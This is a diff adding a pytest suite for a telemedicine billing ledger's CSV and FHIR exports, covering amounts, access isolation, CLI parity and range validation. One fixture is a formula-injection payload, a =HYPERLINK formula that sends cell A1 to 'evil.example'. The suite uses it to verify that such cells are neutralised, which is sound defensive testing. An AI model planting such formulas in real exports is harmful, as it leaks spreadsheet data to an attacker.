@@ -1,0 +1,581 @@
+"""The ledger's exports: CSV and FHIR from entries made through the real services, on SQLite and PostgreSQL; the
+API and the CLI give the same bytes; a doctor sees their own records only; bad ranges are refused."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import os
+import shutil
+import stat
+import subprocess
+import sys
+import uuid
+from collections.abc import AsyncIterator
+from dataclasses import dataclass, replace
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aiohttp import ClientSession, CookieJar
+from fhir.resources.R4B.bundle import Bundle
+from sqlalchemy import select
+
+from teleconsult.acts import ActCatalog, NursePlace, packaged
+from teleconsult.api.keys import BILLING, CONSULTATIONS, DOCTORS, SEATS, SIGNALING
+from teleconsult.app import DATABASE
+from teleconsult.billing import BillingChoice, exports
+from teleconsult.billing.exports import (
+    CHUNK_CHARS,
+    CSV_BOM,
+    CSV_COLUMNS,
+    NAMESPACE,
+    ExportFormat,
+    collect,
+    csv_chunks,
+    fhir_chunks,
+    safe_cell,
+    urn,
+)
+from teleconsult.clock import paris_date
+from teleconsult.consultations import NewConsultation
+from teleconsult.domain import BillingAct, BillingRecord, BillingStatus, Doctor, Modifier, Nurse
+from teleconsult.ids import BillingRecordId, ConsultationId, DoctorId
+from teleconsult.store import billing as store
+from teleconsult.store.models import Participant
+from tests.conftest import DOCTOR_PASSWORD, DOCTOR_RPPS, Running, make_settings, start_server
+
+OTHER_EMAIL = "dr.bernard@example.org"
+OTHER_RPPS = "20202020202"
+NURSE_NUMBER = "10003456789"
+FORMULA_PATIENT = '=HYPERLINK("http://evil.example/?"&A1;"Jeanne")'
+CHILD_BIRTH = date(2022, 5, 12)
+
+
+def valid_nir(first13: str) -> str:
+    return first13 + f"{97 - int(first13) % 97:02d}"
+
+
+NIR = valid_nir("2220575056123")
+
+
+def catalog_with_majoration() -> str:
+    """The packaged acts with MEG confirmed (the shipped file leaves every majoration unconfirmed)."""
+    text = (Path(__file__).resolve().parent.parent / "teleconsult" / "data" / "acts.toml").read_text(encoding="utf-8")
+    head, meg = text.split('code = "MEG"', 1)
+    meg_block, rest = meg.split("[[code]]", 1)
+    return head + 'code = "MEG"' + meg_block.replace("confirmed = false", "confirmed = true") + "[[code]]" + rest
+
+
+@dataclass
+class Ledger:
+    live: Running
+    doctor: Doctor
+    other: Doctor
+    #: consultation ids: with a nurse and a majoration; corrected to not billable; a no-show; the other doctor's.
+    nurse_and_majoration: str
+    corrected: str
+    no_show: str
+    others: str
+    first: date
+    last: date
+
+
+async def _admitted(live: Running, doctor: Doctor, new: NewConsultation, *, video: bool = True) -> str:
+    app = live.app
+    created = await app[CONSULTATIONS].create(doctor, new)
+    cid = created.consultation.id
+    async with app[DATABASE].transaction() as tx:
+        seats = (await tx.execute(select(Participant).where(Participant.consultation_id == cid))).scalars().all()
+    for seat in seats:
+        await app[SEATS].participant_admitted(seat.id, cid, in_progress=True)
+    if video:
+        await app[CONSULTATIONS].video_connected(cid, "p_patient", "p_doctor")
+    return cid
+
+
+@pytest.fixture
+async def ledger(tmp_path: Path, database_url: str) -> AsyncIterator[Ledger]:
+    acts_file = tmp_path / "acts.toml"
+    acts_file.write_text(catalog_with_majoration(), encoding="utf-8")
+    live = await start_server(make_settings(tmp_path, database_url=database_url, acts_file=acts_file))
+    try:
+        app = live.app
+        doctor = await app[DOCTORS].doctor_by_email(live.doctor_email)
+        assert doctor is not None
+        other = await app[DOCTORS].create_doctor(
+            email=OTHER_EMAIL, name="Dr Bruno Bernard", rpps=OTHER_RPPS, password=DOCTOR_PASSWORD
+        )
+        signaling = app[SIGNALING]
+
+        nursed = await _admitted(
+            live,
+            doctor,
+            NewConsultation("Léa Dupont", "lea@example.org", nurse_name="Inès Robert", nurse_email="ines@example.org"),
+        )
+        choice = BillingChoice(
+            majorations=("MEG",),
+            nurse_place=NursePlace.HOME,
+            nurse_number=NURSE_NUMBER,
+            patient_birth_date=CHILD_BIRTH,
+            patient_nir=NIR,
+        )
+        await signaling.end_consultation(nursed, doctor.id, choice)
+
+        corrected = await _admitted(live, doctor, NewConsultation(FORMULA_PATIENT, "x@example.org"))
+        await signaling.end_consultation(corrected, doctor.id)
+        await app[BILLING].correct(
+            doctor,
+            corrected,
+            BillingChoice(status=BillingStatus.NOT_BILLABLE, reason='-1 offert; "geste" commercial\nsuite'),
+        )
+
+        created = await app[CONSULTATIONS].create(doctor, NewConsultation("Paul Absent", "paul@example.org"))
+        no_show = created.consultation.id
+        await signaling.end_consultation(no_show, doctor.id)
+
+        others = await _admitted(live, other, NewConsultation("Zoé Autre", "zoe@example.org"))
+        await signaling.end_consultation(others, other.id)
+
+        today = paris_date(datetime.now(UTC))
+        yield Ledger(
+            live,
+            doctor,
+            other,
+            nursed,
+            corrected,
+            no_show,
+            others,
+            today - timedelta(days=1),
+            today + timedelta(days=1),
+        )
+    finally:
+        await live.server.close()
+
+
+async def _download(
+    ledger: Ledger, fmt: str, *, email: str = "dr.martin@example.org", **query: str
+) -> tuple[int, dict[str, str], bytes]:
+    async with ClientSession(base_url=ledger.live.url, cookie_jar=CookieJar(unsafe=True)) as session:
+        login = await session.post("/api/login", json={"email": email, "password": DOCTOR_PASSWORD})
+        assert login.status == 200
+        params = {"from": ledger.first.isoformat(), "to": ledger.last.isoformat(), "format": fmt} | query
+        response = await session.get("/api/billing/export", params=params)
+        return response.status, dict(response.headers), await response.read()
+
+
+def _rows(body: bytes) -> list[dict[str, str]]:
+    text = body.decode("utf-8")
+    assert text.startswith(CSV_BOM)
+    reader = csv.DictReader(io.StringIO(text.removeprefix(CSV_BOM), newline=""), delimiter=";", strict=True)
+    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
+    return list(reader)
+
+
+def _euros(cell: str) -> int:
+    whole, cents = cell.split(",")
+    return int(whole) * 100 + int(cents)
+
+
+# --- CSV -----------------------------------------------------------------------------------------------------------
+
+
+async def test_the_csv_parses_back_to_the_current_entries_acts_and_amounts(ledger: Ledger) -> None:
+    status, headers, body = await _download(ledger, "csv")
+    assert status == 200, body
+    assert headers["Content-Type"] == "text/csv; charset=utf-8"
+    name = f"teleconsult-{ledger.first.isoformat()}-{ledger.last.isoformat()}.csv"
+    assert headers["Content-Disposition"] == f'attachment; filename="{name}"'
+    assert headers["Cache-Control"] == "no-store"
+    assert body.replace(b"\r\n", b"").count(b"\n") == 1  # CRLF line ends; the one LF is the reason's, in its cell
+    rows = _rows(body)
+    by_consultation: dict[str, list[dict[str, str]]] = {}
+    for row in rows:
+        by_consultation.setdefault(row["Consultation"], []).append(row)
+    assert set(by_consultation) == {ledger.nurse_and_majoration, ledger.corrected, ledger.no_show}
+
+    # Every act and amount of the ledger's current entries, as the service has them.
+    for cid, its_rows in by_consultation.items():
+        current = (await ledger.live.app[BILLING].entries(ledger.doctor, cid))[-1]
+        assert {row["Écriture"] for row in its_rows} == {current.id}
+        assert [r["Révision"] for r in its_rows] == [str(current.revision)] * len(its_rows)
+        if not current.acts:
+            assert [(r["Code acte"], r["Montant acte (€)"], r["Total acte (€)"]) for r in its_rows] == [
+                ("", "0,00", "0,00")
+            ]
+            continue
+        assert [
+            (r["Code acte"], _euros(r["Montant acte (€)"]), r["Majorations"], _euros(r["Total acte (€)"]))
+            for r in its_rows
+        ] == [(a.act_code, a.amount_cents, "+".join(m.code for m in a.modifiers), a.total_cents) for a in current.acts]
+        assert sum(_euros(r["Total acte (€)"]) for r in its_rows) == current.total_cents
+
+    nursed = by_consultation[ledger.nurse_and_majoration]
+    doctor_row, nurse_row = nursed
+    assert (doctor_row["Rôle"], doctor_row["Code acte"], doctor_row["Montant acte (€)"]) == ("doctor", "TCG", "25,00")
+    assert (doctor_row["Majorations"], doctor_row["Montant majorations (€)"]) == ("MEG", "5,00")
+    assert doctor_row["Total acte (€)"] == "30,00" and doctor_row["Tarif du"] == "2018-09-15"
+    assert doctor_row["Libellé acte"] == packaged().tariff("TCG", date(2026, 1, 1)).label_fr
+    assert (nurse_row["Rôle"], nurse_row["Code acte"], nurse_row["Montant acte (€)"]) == ("nurse", "TLD", "15,00")
+    assert (nurse_row["Infirmière"], nurse_row["N° infirmière"], nurse_row["Lieu infirmière"]) == (
+        "Inès Robert",
+        NURSE_NUMBER,
+        "home",
+    )
+    assert nurse_row["Date de naissance"] == CHILD_BIRTH.isoformat() and nurse_row["NIR"] == NIR
+    assert doctor_row["Vidéo"] == "oui" and doctor_row["RPPS médecin"] == DOCTOR_RPPS
+    started = datetime.fromisoformat(doctor_row["Début"])  # Paris wall clock, to the second
+    assert started.date() == date.fromisoformat(doctor_row["Date"])
+    assert int(doctor_row["Durée (s)"]) >= 0
+
+    (corrected,) = by_consultation[ledger.corrected]
+    original = (await ledger.live.app[BILLING].entries(ledger.doctor, ledger.corrected))[0]
+    assert (corrected["Statut"], corrected["Révision"], corrected["Corrige"]) == ("not_billable", "1", original.id)
+    assert corrected["Motif"] == '\'-1 offert; "geste" commercial\nsuite'  # neutralised, quoted, kept whole
+    assert corrected["Patient"] == "'" + FORMULA_PATIENT  # a formula never reaches the spreadsheet as one
+
+    (absent,) = by_consultation[ledger.no_show]
+    assert (absent["Statut"], absent["Motif"], absent["Code acte"]) == ("no_show", "patient_never_joined", "")
+    assert (absent["Début"], absent["Vidéo"]) == ("", "non")
+
+
+async def test_another_doctors_records_never_appear(ledger: Ledger) -> None:
+    mine = (await _download(ledger, "csv"))[2] + (await _download(ledger, "fhir"))[2]
+    theirs_csv = (await _download(ledger, "csv", email=OTHER_EMAIL))[2]
+    theirs_fhir = (await _download(ledger, "fhir", email=OTHER_EMAIL))[2]
+    assert ledger.others.encode() not in mine and OTHER_RPPS.encode() not in mine
+    assert [row["Consultation"] for row in _rows(theirs_csv)] == [ledger.others]
+    for cid in (ledger.nurse_and_majoration, ledger.corrected, ledger.no_show):
+        assert cid.encode() not in theirs_csv + theirs_fhir
+
+
+# --- FHIR ----------------------------------------------------------------------------------------------------------
+
+
+async def test_the_fhir_bundle_is_valid_r4_and_its_charge_items_add_up(ledger: Ledger) -> None:
+    status, headers, body = await _download(ledger, "fhir")
+    assert status == 200 and headers["Content-Type"] == "application/fhir+json"
+    assert headers["Content-Disposition"].endswith('.json"')
+    bundle = Bundle.model_validate_json(body)
+    assert bundle.type == "collection"
+    document = json.loads(body)
+    resources = [entry["resource"] for entry in document["entry"]]
+    full_urls = [entry["fullUrl"] for entry in document["entry"]]
+    assert len(set(full_urls)) == len(full_urls) and all(url.startswith("urn:uuid:") for url in full_urls)
+    assert all(entry["fullUrl"] == "urn:uuid:" + entry["resource"]["id"] for entry in document["entry"])
+    of_kind: dict[str, list[dict[str, Any]]] = {}
+    for resource in resources:
+        of_kind.setdefault(resource["resourceType"], []).append(resource)
+    assert len(of_kind["Encounter"]) == len(of_kind["Patient"]) == 3
+
+    encounters = {e["identifier"][0]["value"]: e for e in of_kind["Encounter"]}
+    assert set(encounters) == {ledger.nurse_and_majoration, ledger.corrected, ledger.no_show}
+    for encounter in encounters.values():
+        assert encounter["class"]["code"] == "VR"
+        assert encounter["class"]["system"] == "http://terminology.hl7.org/CodeSystem/v3-ActCode"
+    assert encounters[ledger.no_show]["status"] == "cancelled" and "start" not in encounters[ledger.no_show]["period"]
+    assert encounters[ledger.nurse_and_majoration]["status"] == "finished"
+
+    practitioners = of_kind["Practitioner"]
+    doctor = next(p for p in practitioners if p["name"][0]["text"] == ledger.doctor.name)
+    assert {(i["system"], i["value"]) for i in doctor["identifier"]} == {
+        ("urn:oid:1.2.250.1.71.4.2.1", "8" + DOCTOR_RPPS),
+        ("https://rpps.esante.gouv.fr", DOCTOR_RPPS),
+    }
+    nurse = next(p for p in practitioners if p["name"][0]["text"] == "Inès Robert")
+    assert nurse["identifier"][0]["value"] == "8" + NURSE_NUMBER
+    assert len(practitioners) == 2  # the doctor once, however many consultations
+
+    patients = {p["id"]: p for p in of_kind["Patient"]}
+    child = next(p for p in patients.values() if p["name"][0]["text"] == "Léa Dupont")
+    assert child["birthDate"] == CHILD_BIRTH.isoformat()
+    assert child["identifier"] == [
+        {
+            "use": "official",
+            "type": {
+                "coding": [{"system": "https://hl7.fr/ig/fhir/core/CodeSystem/fr-core-cs-v2-0203", "code": "INS-NIR"}]
+            },
+            "system": "urn:oid:1.2.250.1.213.1.4.8",
+            "value": NIR,
+        }
+    ]
+    assert all("identifier" not in p for p in patients.values() if p is not child)
+
+    charges = of_kind["ChargeItem"]
+    billable = [c for c in charges if c["status"] == "billable"]
+    assert sorted(c["code"]["coding"][0]["code"] for c in billable) == ["MEG", "TCG", "TLD"]
+    current = (await ledger.live.app[BILLING].entries(ledger.doctor, ledger.nurse_and_majoration))[-1]
+    assert sum(round(c["priceOverride"]["value"] * 100) for c in billable) == current.total_cents == 2500 + 500 + 1500
+    assert all(c["priceOverride"]["currency"] == "EUR" and c["quantity"]["value"] == 1 for c in charges)
+    tcg = next(c for c in billable if c["code"]["coding"][0]["code"] == "TCG")
+    meg = next(c for c in billable if c["code"]["coding"][0]["code"] == "MEG")
+    assert meg["partOf"][0]["reference"] == "urn:uuid:" + tcg["id"]
+    tld = next(c for c in billable if c["code"]["coding"][0]["code"] == "TLD")
+    assert tld["performer"][0]["actor"]["reference"] == "urn:uuid:" + nurse["id"]
+    assert tcg["context"]["reference"] == "urn:uuid:" + encounters[ledger.nurse_and_majoration]["id"]
+    not_billable = {c["code"]["coding"][0]["code"]: c for c in charges if c["status"] == "not-billable"}
+    assert set(not_billable) == {"not_billable", "no_show"}
+    assert not_billable["no_show"]["note"] == [{"text": "patient_never_joined"}]
+    assert all(c["priceOverride"]["value"] == 0 for c in not_billable.values())
+
+
+# --- the same bytes ------------------------------------------------------------------------------------------------
+
+
+def _cli(ledger: Ledger, fmt: str, *extra: str) -> subprocess.CompletedProcess[bytes]:
+    settings = ledger.live.settings
+    env = {k: v for k, v in os.environ.items() if not k.startswith("TELECONSULT_")}
+    command = [
+        sys.executable,
+        "-m",
+        "teleconsult",
+        "billing",
+        "export",
+        "--from",
+        ledger.first.isoformat(),
+        "--to",
+        ledger.last.isoformat(),
+        "--format",
+        fmt,
+        "--data-dir",
+        str(settings.server.data_dir),
+        "--database-url",
+        settings.database_url,
+        *extra,
+    ]
+    return subprocess.run(command, capture_output=True, timeout=60, env=env, check=False)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "fhir"])
+async def test_the_api_and_the_cli_give_the_same_bytes(ledger: Ledger, tmp_path: Path, fmt: str) -> None:
+    _, _, over_http = await _download(ledger, fmt)
+    assert (await _download(ledger, fmt))[2] == over_http  # the same range twice: the same bytes
+    out = tmp_path / "out" / f"export.{fmt}"
+    out.parent.mkdir()
+    written = await asyncio.to_thread(_cli, ledger, fmt, "--doctor", DOCTOR_RPPS, "--out", str(out))
+    assert written.returncode == 0, written.stderr
+    assert out.read_bytes() == over_http
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and not list(out.parent.glob("*.part"))
+    printed = await asyncio.to_thread(_cli, ledger, fmt, "--doctor", DOCTOR_RPPS)
+    assert printed.returncode == 0, printed.stderr
+    assert printed.stdout == over_http
+
+
+async def test_the_cli_without_a_doctor_exports_every_doctors_records(ledger: Ledger, tmp_path: Path) -> None:
+    result = await asyncio.to_thread(_cli, ledger, "csv")
+    assert result.returncode == 0, result.stderr
+    exported = {row["Consultation"] for row in _rows(result.stdout)}
+    assert exported == {ledger.nurse_and_majoration, ledger.corrected, ledger.no_show, ledger.others}
+    argv = ["--data-dir", str(tmp_path), "billing", "export", "--from", "2026-11-30", "--to", "2026-11-01"]
+    backwards = await asyncio.to_thread(
+        subprocess.run, [sys.executable, "-m", "teleconsult", *argv], capture_output=True, check=False
+    )
+    assert backwards.returncode == 2 and b"before" in backwards.stderr
+
+
+# --- the request checked ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("query", "field"),
+    [
+        ({"from": "2026-11-01", "to": "2026-11-31"}, "to"),
+        ({"from": "01/11/2026", "to": "2026-11-30"}, "from"),
+        ({"from": "2026-W44-7", "to": "2026-11-30"}, "from"),
+        ({"to": "2026-11-30"}, "from"),
+        ({"from": "2026-11-30", "to": "2026-11-01"}, "to"),
+        ({"from": "2026-01-01", "to": "2027-01-02"}, "to"),
+        ({"from": "2026-11-01", "to": "2026-11-30", "format": "xml"}, "format"),
+    ],
+)
+async def test_a_bad_range_or_format_is_a_400_naming_the_field(
+    running: Running, query: dict[str, str], field: str
+) -> None:
+    async with ClientSession(base_url=running.url, cookie_jar=CookieJar(unsafe=True)) as session:
+        assert (await session.get("/api/billing/export", params=query)).status == 401
+        await session.post("/api/login", json={"email": running.doctor_email, "password": running.doctor_password})
+        response = await session.get("/api/billing/export", params={"format": "csv"} | query)
+        assert response.status == 400
+        assert (await response.json()) | {"message": ""} == {"error": "bad_request", "field": field, "message": ""}
+
+
+async def test_a_leap_year_exports_whole(running: Running) -> None:
+    async with ClientSession(base_url=running.url, cookie_jar=CookieJar(unsafe=True)) as session:
+        await session.post("/api/login", json={"email": running.doctor_email, "password": running.doctor_password})
+        response = await session.get("/api/billing/export", params={"from": "2028-01-01", "to": "2028-12-31"})
+        assert response.status == 200  # 366 days, and csv by default
+        assert _rows(await response.read()) == []
+
+
+# --- the formats, without a database -----------------------------------------------------------------------------
+
+
+def _record(n: int, **changes: Any) -> BillingRecord:
+    started = datetime(2026, 3, 29, 0, 30, tzinfo=UTC) + timedelta(minutes=n)  # across the spring change of time
+    record = BillingRecord(
+        id=BillingRecordId(f"b_{n:06d}"),
+        consultation_id=ConsultationId(f"c_{n:06d}"),
+        revision=0,
+        corrects=None,
+        status=BillingStatus.COMPLETED,
+        reason=None,
+        act_date=paris_date(started),
+        doctor_id=DoctorId("d_1"),
+        doctor_name="Dr Alice Martin",
+        doctor_rpps=DOCTOR_RPPS,
+        patient_name=f"Patient {n}",
+        patient_birth_date=None,
+        patient_nir=None,
+        nurse=None,
+        scheduled_at=None,
+        started_at=started,
+        ended_at=started + timedelta(minutes=12),
+        duration_s=720,
+        video_connected=True,
+        total_cents=2500,
+        currency="EUR",
+        acts=(BillingAct("doctor", "Dr Alice Martin", "TCG", 2500, date(2018, 9, 15)),),
+        recorded_at=started + timedelta(minutes=12),
+        recorded_by="doctor:d_1",
+    )
+    return replace(record, **changes)
+
+
+async def _records(records: list[BillingRecord]) -> AsyncIterator[BillingRecord]:
+    for record in records:
+        yield record
+
+
+async def test_the_csv_streams_in_chunks_with_paris_times_and_french_amounts() -> None:
+    records = [_record(n) for n in range(3000)]
+    chunks = [chunk async for chunk in csv_chunks(_records(records), ActCatalog.load())]
+    assert len(chunks) > 3 and all(len(c) < 2 * CHUNK_CHARS * 4 for c in chunks)  # streamed, never all at once
+    rows = _rows(b"".join(chunks))
+    assert len(rows) == 3000 and {r["Montant acte (€)"] for r in rows} == {"25,00"}
+    assert rows[0]["Début"] == "2026-03-29 01:30:00" and rows[0]["Date"] == "2026-03-29"  # UTC+1 before 01:00 UTC
+    assert rows[60]["Début"] == "2026-03-29 03:30:00"  # UTC+2 after
+
+
+async def test_an_unknown_act_code_and_an_empty_range_still_export() -> None:
+    odd = _record(
+        1, acts=(BillingAct("doctor", "Dr A", "XYZ", 100, date(2020, 1, 1), (Modifier("MZZ", 5, date(2020, 1, 1)),)),)
+    )
+    rows = _rows(await collect(csv_chunks(_records([odd]), ActCatalog.load())))
+    assert (rows[0]["Code acte"], rows[0]["Libellé acte"], rows[0]["Total acte (€)"]) == ("XYZ", "", "1,05")
+    Bundle.model_validate_json(
+        await collect(fhir_chunks(_records([odd]), ActCatalog.load(), first=date(2026, 1, 1), last=date(2026, 1, 1)))
+    )
+    assert _rows(await collect(csv_chunks(_records([]), ActCatalog.load()))) == []
+    empty = await collect(fhir_chunks(_records([]), ActCatalog.load(), first=date(2026, 1, 1), last=date(2026, 1, 31)))
+    assert "entry" not in json.loads(empty)  # FHIR allows no empty array
+    Bundle.model_validate_json(empty)
+
+
+async def test_the_fhir_ids_are_stable_and_a_nurse_without_a_number_is_named_only() -> None:
+    nursed = _record(
+        2,
+        nurse=Nurse("Inès Robert", None, "planned_visit"),
+        acts=(
+            BillingAct("doctor", "Dr Alice Martin", "TCG", 2500, date(2018, 9, 15)),
+            BillingAct("nurse", "Inès Robert", "TLS", 1000, date(2020, 1, 1)),
+        ),
+        total_cents=3500,
+    )
+    catalog = ActCatalog.load()
+    first = await collect(
+        fhir_chunks(_records([_record(1), nursed]), catalog, first=date(2026, 3, 1), last=date(2026, 3, 31))
+    )
+    again = await collect(
+        fhir_chunks(_records([_record(1), nursed]), catalog, first=date(2026, 3, 1), last=date(2026, 3, 31))
+    )
+    assert first == again
+    Bundle.model_validate_json(first)
+    resources = [e["resource"] for e in json.loads(first)["entry"]]
+    assert [r["resourceType"] for r in resources].count("Practitioner") == 1
+    tls = next(r for r in resources if r["resourceType"] == "ChargeItem" and r["code"]["coding"][0]["code"] == "TLS")
+    assert tls["performer"] == [{"actor": {"display": "Inès Robert"}}]
+    other_month = await collect(
+        fhir_chunks(_records([_record(1)]), catalog, first=date(2026, 4, 1), last=date(2026, 4, 30))
+    )
+    assert json.loads(other_month)["id"] != json.loads(first)["id"]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 6 00", "'+33 6 00"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("Jeanne = Dupont", "Jeanne = Dupont"),
+        ("", ""),
+        (None, ""),
+    ],
+)
+def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(text: str | None, cell: str) -> None:
+    assert safe_cell(text) == cell
+
+
+# --- LibreOffice -------------------------------------------------------------------------------------------------
+
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+
+
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed: the strict csv reader stands in")
+async def test_libreoffice_opens_the_csv(ledger: Ledger, tmp_path: Path) -> None:
+    assert SOFFICE is not None
+    soffice = SOFFICE
+    _, _, body = await _download(ledger, "csv")
+    source = tmp_path / "export.csv"
+    source.write_bytes(body)
+    # 59 = ';', 34 = '"', 76 = UTF-8; the first line is the header.
+    result = await asyncio.to_thread(
+        subprocess.run,
+        [
+            soffice,
+            "--headless",
+            "--infilter=CSV:59,34,76,1",
+            "--convert-to",
+            "csv:Text - txt - csv (StarCalc):44,34,76",
+            "--outdir",
+            str(tmp_path / "out"),
+            str(source),
+        ],
+        capture_output=True,
+        timeout=120,
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
+    converted = (tmp_path / "out" / "export.csv").read_text(encoding="utf-8")
+    parsed = list(csv.reader(io.StringIO(converted)))
+    assert parsed[0][0].lstrip(CSV_BOM) == CSV_COLUMNS[0] and len(parsed) == len(_rows(body)) + 1
+    assert any("TCG" in row for row in parsed)
+
+
+def test_the_ids_are_the_standard_uuid5_of_the_entry() -> None:
+    for name in ("b_000001/patient", "practitioner:rpps:10101010101", "b_é/act/0/modifier/1"):
+        assert urn(name) == f"urn:uuid:{uuid.uuid5(NAMESPACE, name)}"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "fhir"])
+async def test_pages_of_one_entry_give_the_same_bytes_and_a_reader_may_stop_early(
+    ledger: Ledger, monkeypatch: pytest.MonkeyPatch, fmt: str
+) -> None:
+    billing = ledger.live.app[BILLING]
+    whole = await collect(billing.export(ledger.first, ledger.last, ExportFormat(fmt), doctor=ledger.doctor))
+    monkeypatch.setattr(store, "EXPORT_BATCH", 1)  # every entry a page of its own: the keyset walks them all
+    paged = await collect(billing.export(ledger.first, ledger.last, ExportFormat(fmt), doctor=ledger.doctor))
+    assert paged == whole
+    monkeypatch.setattr(exports, "CHUNK_CHARS", 1)  # a chunk per entry, so that the reader can stop after one
+    chunks = billing.export(ledger.first, ledger.last, ExportFormat(fmt), doctor=ledger.doctor)
+    assert await anext(chunks)
+    await chunks.aclose()  # the page being read is let finish; its connection goes back to the pool
+    again = await asyncio.wait_for(
+        collect(billing.export(ledger.first, ledger.last, ExportFormat(fmt), doctor=ledger.doctor)), 30
+    )
+    assert again == whole
